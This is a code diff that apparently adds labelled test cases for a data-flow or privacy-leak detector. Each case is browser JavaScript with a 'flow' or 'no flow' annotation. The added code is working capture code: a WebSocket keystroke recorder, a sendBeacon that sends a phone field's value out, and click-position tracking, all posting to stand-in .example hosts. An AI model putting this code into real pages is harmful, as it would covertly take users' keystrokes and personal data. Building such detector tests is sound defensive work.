@@ -113,3 +113,31 @@ setInterval(function () {
 let count = 0;
 document.addEventListener('keydown', () => { count += 1; });
 setInterval(() => { if (count) navigator.sendBeacon('https://nkc.fd16.example/k', String(count)); count = 0; }, 1000);
+
+//# what-is-taken-of-the-event-is-told
+// flow: phone > wte.fd16.example via beacon
+function watch(target, type, take) {
+  target.addEventListener(type, function (event) { navigator.sendBeacon('https://wte.fd16.example/w', take(event)); });
+}
+watch(document.querySelector('input[type=tel]'), 'change', (e) => e.target.value);
+
+//# near-only-the-length-is-taken
+// no flow
+function watch2(target, type, take) {
+  target.addEventListener(type, function (event) { navigator.sendBeacon('https://nol.fd16.example/w', String(take(event))); });
+}
+watch2(document.querySelector('input[type=tel]'), 'change', (e) => e.target.value.length > 3);
+
+//# keys-taken-by-a-recorder
+// flow: keystrokes > ktr.fd16.example via websocket
+class Recorder {
+  constructor(url) { this.socket = new WebSocket(url); }
+  on(type, pick) { document.addEventListener(type, (event) => this.write(type, pick(event))); }
+  write(type, what) { this.socket.send(JSON.stringify([type, what])); }
+}
+new Recorder('wss://ktr.fd16.example/r').on('keydown', (event) => event.key);
+
+//# places-of-clicks-taken
+// flow: interaction > pct.fd16.example via beacon
+const each = (type, pick, send) => document.addEventListener(type, (event) => { const found = pick(event); if (found) send(found); });
+each('click', (e) => ({ x: e.pageX, y: e.pageY }), (found) => navigator.sendBeacon('https://pct.fd16.example/p', JSON.stringify(found)));
